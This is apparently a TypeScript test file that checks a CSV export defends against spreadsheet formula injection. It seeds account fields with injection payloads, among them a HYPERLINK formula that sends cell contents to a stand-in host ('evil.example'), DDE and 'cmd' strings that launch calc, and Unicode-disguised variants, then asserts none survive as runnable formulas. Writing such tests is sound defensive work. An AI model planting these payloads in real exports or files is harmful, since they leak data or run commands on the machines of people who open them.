import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { modules } from '../../src/app/wiring.ts'
import { upsertAccounts } from '../../src/modules/accounts/index.ts'
import { figure } from '../support/figures.ts'
import { aWorld, type Person, type World } from '../support/world.ts'

/** Texts that a spreadsheet runs, or that hide what it runs from a careless look at the first character. */
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '=1+1',
  '+1-555-0100',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  ' @SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\u00a0=1',
  '\ufeff=1',
  '\u200b=1',
  '\u3000=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '  \t ＝HYPERLINK("x")',
  '"=1+1"',
  '=1,2\r\n=3',
  '%0A=1',
  "'=1",
  'DDE ("cmd";"/C calc";"x")',
  '−1',
]

let world: World
let owner: Person

beforeAll(async () => {
  world = await aWorld({ at: '2026-03-02T09:00:00Z', modules })
  owner = await world.person('owner')
  const field = await world.call(owner, 'POST', '/api/accounts/fields', { label: 'Note', type: 'text' })
  expect(field.text).toContain('note')
  const drafts = formulas.map((text, index) => ({
    externalId: `f-${index}`,
    name: text,
    plan: text,
    industry: text,
    custom: { note: text },
  }))
  const outcomes = await world.within((tx) =>
    upsertAccounts(tx, drafts, { source: 'crm', origin: 'live', known: tx.now }),
  )
  expect(outcomes.filter((outcome) => outcome.kind === 'refused')).toEqual([])
}, 120_000)

afterAll(() => world.close())

/** What a spreadsheet looks at: the first character after blanks of any kind, with full-width forms made plain. */
function isRun(cell: string): boolean {
  const visible = cell.normalize('NFKC').replace(/^[\s\p{Cf}\p{Zs}]+/u, '')
  return /^[=+\-@]/.test(visible) || /^[\t\r\n]/.test(cell)
}

test('no cell of an exported list is a formula, and every text is still there whole', async () => {
  const columns = encodeURIComponent(
    JSON.stringify(['attribute:name', 'attribute:plan', 'attribute:industry', 'custom:note']),
  )
  const answer = await world.call(owner, 'GET', `/api/segments/export?columns=${columns}`)
  expect(answer.status, answer.text).toBe(200)
  const rows = parse(answer.text, { bom: true, relax_column_count: false }) as string[][]
  const [head, ...body] = rows
  expect(body).toHaveLength(formulas.length)
  const run = body.flat().filter(isRun)
  figure('exported cells that a spreadsheet would run', run.length, 0)
  expect(run).toEqual([])
  const note = (head as string[]).findIndex((name) => /note/i.test(name))
  const back = body.map((row) => row[note]?.replace(/^'/, ''))
  expect(back.toSorted()).toEqual(formulas.map((text) => text.replace(/^'/, '')).toSorted())
})
